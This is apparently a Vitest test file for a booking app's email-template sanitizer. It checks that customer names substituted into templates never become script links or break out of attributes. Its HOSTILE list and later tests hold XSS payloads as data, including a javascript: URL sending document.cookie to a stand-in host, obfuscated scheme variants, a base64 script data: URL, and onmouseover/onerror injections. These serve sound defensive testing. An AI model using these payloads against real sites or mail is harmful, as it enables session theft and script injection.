import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderTemplate } from '../../src/mail/templates.js';
import { startSmtp } from '../auth/support.js';
import { createTestApp, engine, signIn, type TestApp } from '../helpers.js';
import { newBooking, newPassenger } from '../services/builders.js';

// Issue 26: what a queued mail holds. Customers come from partner files and shop orders, so a variable's value is
// written by outsiders: whatever the template, no value turns into a link of another scheme than the allowed ones,
// and the whole mail passes the stored bodies' allow-list after substitution. The plain-text part is real text.

/** Values a customer's name could hold, each meant to become a link that runs. */
const HOSTILE = [
  "javascript:fetch('https://evil.test/?c='+document.cookie)",
  'JavaScript:alert(1)',
  'java&#115;cript:alert(1)',
  ' javascript:alert(1)',
  '\tjavascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '//evil.test/login',
];

describe(`mail content on ${engine}`, () => {
  let t: TestApp;
  let smtp: Awaited<ReturnType<typeof startSmtp>>;
  let operator: Record<string, string>;
  let admin: Record<string, string>;
  beforeAll(async () => {
    smtp = await startSmtp();
    t = await createTestApp({ config: { smtpUrl: smtp.smtpUrl } });
    operator = (await signIn(t, 'operator')).headers;
    admin = (await signIn(t, 'admin')).headers;
  });
  afterAll(async () => {
    await t.close();
    await smtp.close();
  });

  /** The confirmation template's body, saved as staff save it (through the stored bodies' allow-list). */
  const saveBody = async (body: string) => {
    const template = await t.database.db
      .selectFrom('email_templates')
      .select('id')
      .where('slug', '=', 'booking-confirmation')
      .executeTakeFirstOrThrow();
    const saved = await t.app.inject({
      method: 'PUT',
      url: `/api/email-templates/${template.id}`,
      headers: admin,
      payload: { body },
    });
    expect(saved.statusCode).toBe(200);
    return saved.json().body as string;
  };
  /** A body written straight to the table (seeded, or saved before the stored bodies' allow-list existed). */
  const writeBody = (body: string) =>
    t.database.db.updateTable('email_templates').set({ body }).where('slug', '=', 'booking-confirmation').execute();
  /** A booking whose customer (a company from a partner file) is reached at `email`. */
  const bookingOf = async (
    customer: { company_name?: string; first_name?: string; last_name?: string },
    email: string,
  ) => {
    const { db } = t.database;
    const row = await db
      .insertInto('customers')
      .values({ customer_type_id: 1, email, ...customer })
      .returning('id')
      .executeTakeFirstOrThrow();
    const booking = await newBooking(db, { customer_id: row.id });
    await newPassenger(db, booking, { is_referent: 1, email: null });
    return booking;
  };
  const queueConfirmation = async (bookingId: number) => {
    const response = await t.app.inject({
      method: 'POST',
      url: `/api/bookings/${bookingId}/emails`,
      headers: operator,
      payload: { template: 'booking-confirmation' },
    });
    expect(response.statusCode).toBe(202);
    return t.database.db
      .selectFrom('outbox_mails')
      .select(['html', 'text'])
      .where('id', '=', response.json().id)
      .executeTakeFirstOrThrow();
  };

  it('a customer name in a link template never becomes a javascript: (or other) link in the queued mail', async () => {
    // The body of the issue: the placeholder looks like a relative link, so the stored body keeps it.
    expect(await saveBody('<p><a href="{{customer.full_name}}">Suivre</a></p>')).toBe(
      '<p><a href="{{customer.full_name}}">Suivre</a></p>',
    );
    for (const [index, name] of HOSTILE.entries()) {
      const stored = await queueConfirmation(await bookingOf({ company_name: name }, `hostile-${index}@example.test`));
      expect(stored.html, JSON.stringify(name)).toBe('<p><a>Suivre</a></p>');
      expect(stored.text).toBe('Suivre');
    }
    // A name that is an address of an allowed scheme stays a link: the rule is the scheme, not the variable.
    const fine = await queueConfirmation(
      await bookingOf({ company_name: 'https://ballons.test/' }, 'fine@example.test'),
    );
    expect(fine.html).toBe('<p><a href="https://ballons.test/">Suivre</a></p>');
  });

  it('a variable after a scheme the template wrote stays data; one in a style is dropped', async () => {
    // Saving would already drop that style (not a color): a body from before the allow-list.
    await writeBody(
      '<p><a href="https://suivi.test/?client={{customer.full_name}}">Suivi</a> ' +
        '<span style="color: {{customer.full_name}}">Bonjour</span> <a href="mailto:{{customer.full_name}}">Écrire</a></p>',
    );
    const stored = await queueConfirmation(
      await bookingOf({ company_name: '" onmouseover="alert(1)' }, 'attribute@example.test'),
    );
    expect(stored.html).toBe(
      '<p><a href="https://suivi.test/?client=&quot; onmouseover=&quot;alert(1)">Suivi</a> ' +
        '<span>Bonjour</span> <a href="mailto:&quot; onmouseover=&quot;alert(1)">Écrire</a></p>',
    );
    // `#f00` is a color the allow-list keeps as typed by staff; from a variable, never.
    const red = await queueConfirmation(await bookingOf({ company_name: '#f00' }, 'red@example.test'));
    expect(red.html).toContain('<span>Bonjour</span>');
  });

  it('the final HTML passes the allow-list, signature included (a row saved before the sanitizer, or by hand)', async () => {
    await saveBody('<p>Bonjour {{customer.full_name}}</p>');
    await t.database.db
      .updateTable('settings')
      .set({
        value: '<p><a href="javascript:alert(1)">Signé</a><img src=x onerror="alert(1)"><script>alert(2)</script></p>',
      })
      .where('key', '=', 'email_signature')
      .execute();
    try {
      const stored = await queueConfirmation(
        await bookingOf({ company_name: 'Voyages <b>Dupont</b>' }, 'sig@example.test'),
      );
      expect(stored.html).toBe('<p>Bonjour Voyages &lt;b&gt;Dupont&lt;/b&gt;</p><p><a>Signé</a></p>');
    } finally {
      await t.database.db.updateTable('settings').set({ value: '' }).where('key', '=', 'email_signature').execute();
    }
  });

  it('the plain-text part shows characters, one line per list item and link addresses, and leaves by SMTP', async () => {
    await saveBody(
      '<h2>Votre vol {{booking.number}}</h2>' +
        '<p>Bonjour {{customer.full_name}}, l&#39;équipe vous attend « bientôt » &amp; à l’heure.</p>' +
        '<ul><li>Arrivée à 6 h</li><li>Vêtements chauds</li></ul>' +
        '<ol><li>Décollage</li><li>Atterrissage</li></ol>' +
        '<p>Plan : <a href="https://ballons.test/acces?vol=1&amp;jour=2">accès au terrain</a><br>' +
        'Site : <a href="https://ballons.test">https://ballons.test</a></p>',
    );
    const bookingId = await bookingOf({ first_name: 'Seán', last_name: 'O\'Brien "Jo"' }, 'texte@example.test');
    const number = (
      await t.database.db.selectFrom('bookings').select('number').where('id', '=', bookingId).executeTakeFirstOrThrow()
    ).number;
    const stored = await queueConfirmation(bookingId);
    expect(stored.text).not.toMatch(/&[a-z]+;|&#\d+;/i);
    expect(stored.text.split('\n')).toEqual([
      `Votre vol ${number}`,
      '',
      'Bonjour Seán O\'Brien "Jo", l\'équipe vous attend « bientôt » & à l’heure.',
      '',
      '- Arrivée à 6 h',
      '- Vêtements chauds',
      '',
      ' 1. Décollage',
      ' 2. Atterrissage',
      '',
      'Plan : accès au terrain [https://ballons.test/acces?vol=1&jour=2]',
      'Site : https://ballons.test',
    ]);

    const caught = smtp.nextMail('texte@example.test');
    expect(await t.app.ctx.mailer.deliverDue()).toBeGreaterThanOrEqual(1);
    const mail = await caught;
    expect(mail.raw).toMatch(/^Content-Type: multipart\/alternative/m);
    expect(mail.raw).toMatch(/^Content-Type: text\/plain; charset=utf-8/m);
    expect(mail.raw).toMatch(/^Content-Type: text\/html; charset=utf-8/m);
    expect(mail.text).toMatch(/^- Arrivée à 6 h\r?\n- Vêtements chauds\r?$/m);
    expect(mail.text).toContain('Bonjour Seán O\'Brien "Jo", l\'équipe vous attend « bientôt » & à l’heure.');
    expect(mail.text).toContain('Plan : accès au terrain [https://ballons.test/acces?vol=1&jour=2]');
  });

  it('renderTemplate alone: a hostile value in an href leaves no href, the same value in text stays readable text', () => {
    const template = '<p><a href="{{x}}">{{x}}</a><a href="  {{x}}  ">b</a><a href="{{x}}{{y}}">c</a></p>';
    for (const x of HOSTILE) {
      const html = renderTemplate(template, { x, y: 'https://ok.test' }, 'html');
      expect(html, JSON.stringify(x)).not.toMatch(/href/);
      expect(html).toMatch(/^<p><a>[^<]*<\/a><a>b<\/a><a>c<\/a><\/p>$/);
    }
    // Text mode (subjects) is untouched: one line, no escaping.
    expect(renderTemplate('Vol de {{x}}', { x: 'O\'Brien "Jo"\r\n<b>' }, 'text')).toBe('Vol de O\'Brien "Jo" <b>');
  });
});
